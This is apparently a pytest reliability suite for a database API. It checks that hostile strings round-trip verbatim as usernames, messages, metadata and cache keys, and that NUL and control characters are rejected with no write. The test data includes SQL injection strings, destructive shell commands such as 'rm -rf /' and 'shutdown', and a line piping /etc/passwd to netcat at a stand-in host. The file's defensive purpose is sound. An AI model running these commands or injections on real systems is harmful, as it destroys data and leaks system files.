"""Hostile strings are data: stored and returned verbatim as usernames, content, metadata and cache keys.

Where validation rejects a string by design (control characters in usernames, NUL anywhere),
the rejection is a ValidationError naming the field and nothing is written.
"""

from __future__ import annotations

import unicodedata

import pytest
from sqlalchemy import text

from database import ValidationError
from database.api import DatabaseAPI

pytestmark = pytest.mark.reliability

INJECTION = [
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "admin'--",
    "1; SELECT pg_sleep(10)",
    "$$; DELETE FROM messages; $$",
    "%(username)s %s {0} :name ?",
    "\\'; TRUNCATE cache_entries CASCADE; --",
    "Robert'); DROP TABLE conversations;--",
]
SHELL = [
    "$(rm -rf /)",
    "`reboot`",
    "a; cat /etc/passwd | nc evil 1",
    "&& shutdown -h now",
    "${IFS}*",
    "'\"\\|<>&!~#",
]
UNICODE = [
    "\u202eevil.txt\u202c gpj.exe",  # right-to-left override
    "\u2066isolate\u2069 \u200f\u200e\u200b zero widths",
    "Ünïcödé ÆØÅ ß 漢字 العربية עברית",
    "👩‍👩‍👧‍👦🏳️‍🌈🧙‍♂️",
    "e\u0301 vs é",  # NFD vs NFC: kept as given, never normalised
    "\ufeffBOM at start",
    "\U0010ffff last code point",
]
CONTROL = [
    "tab\there",
    "new\nline",
    "carriage\rreturn",
    "bell\x07",
    "escape\x1b[31mred",
    "del\x7f",
    "nel\x85",
]
LONG = ["x" * 150, "𝔊" * 150]  # the username limit is 150 characters, not bytes

USERNAMES = INJECTION + SHELL + UNICODE + LONG
TEXTS = INJECTION + SHELL + UNICODE + CONTROL + ["y" * 1_000_000, "🧙" * 100_000, ""]


def _counts(engine) -> dict[str, int]:  # noqa: ANN001
    tables = ("users", "user_profiles", "conversations", "messages", "cache_entries")
    with engine.connect() as conn:
        return {t: conn.execute(text(f"SELECT count(*) FROM {t}")).scalar_one() for t in tables}


def test_hostile_usernames_round_trip(committed_api: DatabaseAPI) -> None:
    for name in USERNAMES:
        created = committed_api.create_user(name, name=name, email=name[:320])
        assert created["username"] == name
        fetched = committed_api.get_user(name)
        assert fetched["username"] == name and fetched["name"] == name and fetched["email"] == name[:320]
        assert committed_api.get_user_profile(name) is not None
        conversation = committed_api.create_conversation(name, {"quiz_id": name[:255]}, {})
        assert committed_api.list_conversations(name)[0]["id"] == conversation["id"]
    listed = []
    after = None
    while page := committed_api.list_users(limit=7, after=after):
        listed += [u["username"] for u in page]
        after = page[-1]["username"]
    assert sorted(listed) == sorted(USERNAMES)
    # NFC and NFD spellings are different usernames: kept apart, neither normalised.
    assert committed_api.get_user(unicodedata.normalize("NFC", "e\u0301 vs é")) is None


@pytest.mark.parametrize("bad", CONTROL + ["nul\x00name", "", "z" * 151])
def test_usernames_rejected_by_design_change_nothing(
    committed_api: DatabaseAPI, committed_db, bad: str
) -> None:
    before = _counts(committed_db)
    with pytest.raises(ValidationError) as info:
        committed_api.create_user(bad)
    assert info.value.field == "username"
    assert _counts(committed_db) == before


def test_hostile_content_and_metadata_round_trip(committed_api: DatabaseAPI) -> None:
    committed_api.create_user("hostile content")
    conversation = committed_api.create_conversation(
        "hostile content", {"metadata": {k: k for k in INJECTION + SHELL + UNICODE}}, {"llm_model": SHELL[0]}
    )
    written = []
    for i, content in enumerate(TEXTS):
        metadata = {content[:200] or "empty": content, "nested": [content, {"k": content}], "i": i}
        message = committed_api.add_message(
            conversation["id"], {"role": "user", "content": content, "metadata": metadata}
        )
        assert message["content"] == content and message["metadata"] == metadata
        written.append((content, metadata))
    stored = committed_api.get_conversation(conversation["id"])
    assert [(m["content"], m["metadata"]) for m in stored["messages"]] == written
    assert stored["metadata"] == {k: k for k in INJECTION + SHELL + UNICODE}
    assert stored["parameters"]["llm_model"] == SHELL[0]
    last = committed_api.get_messages(conversation["id"], limit=3)
    assert [m["content"] for m in last] == TEXTS[-3:]


def test_hostile_cache_types_keys_and_values_round_trip(committed_api: DatabaseAPI) -> None:
    keys = [k for k in TEXTS if k and len(k) <= 1024]
    for i, key in enumerate(keys):
        value = {"key": key, "list": [key, i], key[:100]: None}
        committed_api.set_cache(INJECTION[i % len(INJECTION)][:64], key, value)
    for i, key in enumerate(keys):
        entry = committed_api.get_cache(INJECTION[i % len(INJECTION)][:64], key)
        assert entry["key"] == key
        assert entry["value"] == {"key": key, "list": [key, i], key[:100]: None}
    assert committed_api.cache_stats()["entries"] == len(keys)
    assert committed_api.delete_cache(INJECTION[0][:64], keys[0]) is True
    assert committed_api.get_cache(INJECTION[0][:64], keys[0]) is None


@pytest.mark.parametrize(
    "call",
    [
        lambda api, cid: api.add_message(cid, {"role": "user", "content": "nul\x00inside"}),
        lambda api, cid: api.add_message(
            cid, {"role": "user", "content": "ok", "metadata": {"k": "nul\x00"}}
        ),
        lambda api, cid: api.add_message(
            cid, {"role": "user", "content": "ok", "metadata": {"nul\x00key": 1}}
        ),
        lambda api, cid: api.set_cache("t", "nul\x00key", 1),
        lambda api, cid: api.set_cache("t", "k", {"v": "\x00"}),
        lambda api, cid: api.create_conversation("hostile nul", {"metadata": {"a": ["\x00"]}}, {}),
    ],
    ids=["content", "metadata-value", "metadata-key", "cache-key", "cache-value", "conversation-metadata"],
)
def test_nul_is_rejected_and_nothing_is_written(committed_api: DatabaseAPI, committed_db, call) -> None:  # noqa
    committed_api.create_user("hostile nul")
    cid = committed_api.create_conversation("hostile nul", {}, {})["id"]
    before = _counts(committed_db)
    with pytest.raises(ValidationError):
        call(committed_api, cid)
    assert _counts(committed_db) == before
